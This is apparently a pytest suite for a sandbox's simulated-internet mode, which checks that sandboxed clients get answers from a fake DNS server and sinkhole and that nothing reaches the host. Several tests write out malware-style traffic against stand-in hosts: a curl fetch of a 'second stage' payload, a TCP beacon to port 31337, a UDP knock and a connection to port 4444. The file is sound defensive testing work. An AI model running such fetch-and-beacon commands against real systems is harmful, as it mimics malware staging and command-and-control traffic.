"""`bubble run --net-sim` (issue "A simulated internet"): real clients inside the wall get
answers from Bubble's DNS server and sinkhole, the events say what they asked and sent, and
the host's loopback listeners see nothing. Every target checks that it is in its own network
namespace before it resolves a name."""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import time

import pytest

from bubble.netsim.sinkhole import DEFAULT_BODY
from tests.conftest import AS_ROOT, run_bubble
from tests.kernel.conftest import SRC, descendants, nobody_cmd, parse_events
from tests.kernel.test_netwall import Listener, py

HOST_NETNS = os.stat("/proc/self/ns/net").st_ino
SH_GUARD = (
    f'[ "$(stat -L -c %i /proc/self/ns/net)" != {HOST_NETNS} ] '
    "|| { echo HOST-NAMESPACE; exit 3; }; "
)
BODY = DEFAULT_BODY.decode()


def sh(script: str) -> list[str]:
    return ["/bin/sh", "-c", SH_GUARD + script]


@pytest.fixture
def host():
    """TCP and UDP listeners on the host's 127.0.0.1 and ::1, one port."""
    tcp = Listener(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1")
    others = [
        Listener(socket.AF_INET6, socket.SOCK_STREAM, "::1", tcp.port),
        Listener(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1", tcp.port),
    ]
    yield tcp
    assert not any(x.got_anything() for x in (tcp, *others)), "something reached the host"
    for listener in (tcp, *others):
        listener.close()


def of(res, kind: str, **match: object) -> list[dict]:
    return [
        e for e in res.events if e["type"] == kind and all(e.get(k) == v for k, v in match.items())
    ]


def test_done_when_curl_fetches_a_second_stage(host):
    res = run_bubble(sh("curl -s http://stage2.example/payload.bin"), ["--net-sim"], timeout=120)
    assert res.stdout == BODY, res.stdout + res.stderr
    assert of(res, "net.dns", dns_name="stage2.example", dns_type="A")
    [cap] = of(res, "net.capture", port=80)
    assert cap["http_request"] == "GET /payload.bin HTTP/1.1"
    assert cap["http_host"] == "stage2.example" and cap["dns_name"] == "stage2.example"
    # glibc also connects UDP sockets to each address to sort them (RFC 6724): the last
    # connect to port 80 is curl's own.
    connect = of(res, "net.connect", port=80, family_name="AF_INET")[-1]
    assert connect["decision"] == "ALLOW" and connect["peer"] == cap["peer"]
    assert cap["peer"].startswith("198.18.")
    assert res.events[-1]["type"] == "process.exit" and res.events[-1]["exit_code"] == 0
    assert not of(res, "sandbox.msg", action="degraded")


def test_done_when_https_reveals_the_server_name_and_the_request(host):
    res = run_bubble(
        sh(
            "curl -sk 'https://secure.example/login?u=1'; echo; curl -s https://secure.example/; echo rc=$?"
        ),
        ["--net-sim"],
        timeout=120,
    )
    assert res.stdout.startswith(BODY) and "rc=60" in res.stdout, res.stdout + res.stderr
    tls = of(res, "net.capture", tls_sni="secure.example")
    assert [c["proto"] for c in tls] == ["tls", "tcp"]  # -k: terminated; verifying: refused
    assert tls[0]["http_request"] == "GET /login?u=1 HTTP/1.1"


def test_beacons_udp_and_wget_with_payloads_kept(host, tmp_path):
    code = (
        "import socket, subprocess\n"
        "s = socket.create_connection(('203.0.113.9', 31337)); s.sendall(b'BEACON id=42'); s.close()\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "u.sendto(b'knock', ('198.51.100.7', 9999))\n"
        f"u.sendto(b'to-host', ('127.0.0.1', {host.port}))\n"
        f"t = socket.create_connection(('127.0.0.1', {host.port})); t.sendall(b'local'); t.close()\n"
        "print(subprocess.run(['wget', '-q', '-O', '-', 'http://w.example:8081/get'],"
        " capture_output=True, text=True).stdout, end='')\n"
    )
    captures = tmp_path / "captures"
    res = run_bubble(py(code), ["--net-sim", "--captures", str(captures)], timeout=120)
    assert res.stdout == BODY, res.stdout + res.stderr
    [beacon] = of(res, "net.capture", port=31337)
    assert (beacon["peer"], beacon["text"]) == ("203.0.113.9", "BEACON id=42")
    payload = (captures / beacon["artifact"]).read_bytes()
    assert payload == b"BEACON id=42" and hashlib.sha256(payload).hexdigest() == beacon["sha256"]
    udp = {(c["peer"], c["port"]): c["text"] for c in of(res, "net.capture", proto="udp")}
    assert udp == {("198.51.100.7", 9999): "knock", ("127.0.0.1", host.port): "to-host"}
    sends = of(res, "net.send", syscall="sendto")
    assert {(s["peer"], s["port"], s["decision"]) for s in sends} >= {
        ("198.51.100.7", 9999, "ALLOW")
    }
    assert of(res, "net.capture", peer="127.0.0.1", port=host.port, text="local")
    assert of(res, "net.capture", http_request="GET /get HTTP/1.1", http_host="w.example:8081")


def test_net_sim_needs_the_wall_and_its_options_need_it():
    res = run_bubble(["/bin/true"], ["--net-sim", "--deny-net=0"])
    assert res.rc == 125 and "--net-sim runs inside the network wall" in res.stderr
    res = run_bubble(["/bin/true"], ["--captures", "/tmp/x"])
    assert res.rc == 125 and "--captures is an option of --net-sim" in res.stderr


def test_the_http_body_is_configurable(host, tmp_path):
    body = tmp_path / "stage2.bin"
    body.write_bytes(b"MZ\x90\x00 second stage\n")
    os.chmod(tmp_path, 0o755)
    res = run_bubble(
        sh("curl -s http://stage2.example/payload.bin | od -c | head -1"),
        ["--net-sim", "--http-body", str(body)],
        timeout=120,
    )
    assert "M   Z 220  \\0       s   e   c   o   n   d" in res.stdout, res.stdout + res.stderr


def test_timeout_ends_the_run_and_records_what_was_left_open(host):
    code = (
        "import socket, time\n"
        "s = socket.create_connection(('192.0.2.1', 4444)); s.sendall(b'waiting')\n"
        "time.sleep(60)\n"
    )
    before = set(descendants(os.getpid(), live_only=False))
    started = time.monotonic()
    res = run_bubble(py(code), ["--net-sim", "--timeout", "3"], timeout=60)
    assert time.monotonic() - started < 30
    assert res.events[-1]["timed_out"] is True
    [cap] = of(res, "net.capture", port=4444)
    assert cap["text"] == "waiting" and cap["ended"] in ("closed", "run-end")
    assert set(descendants(os.getpid())) <= before  # the server is gone with the run


@pytest.mark.skipif(not AS_ROOT, reason="needs root to run bubble as another user")
def test_non_root_launcher_simulates_too(nobody_src, host, workdir):
    """Bubble run by `nobody`: the server joins the target's user and network namespaces."""
    events = workdir / "events.ndjson"
    script = SH_GUARD + "wget -q -O - http://nonroot.example/x"
    cmd = nobody_cmd(["run", "--net-sim", "--events", str(events), "--", "/bin/sh", "-c", script])
    cmd[cmd.index(f"PYTHONPATH={SRC}")] = f"PYTHONPATH={nobody_src}"
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=120, cwd="/")
    assert proc.stdout == BODY, proc.stdout + proc.stderr
    evs = parse_events(events.read_text())
    caps = [e for e in evs if e["type"] == "net.capture"]
    assert [c["http_host"] for c in caps] == ["nonroot.example"], json.dumps(evs)[-2000:]
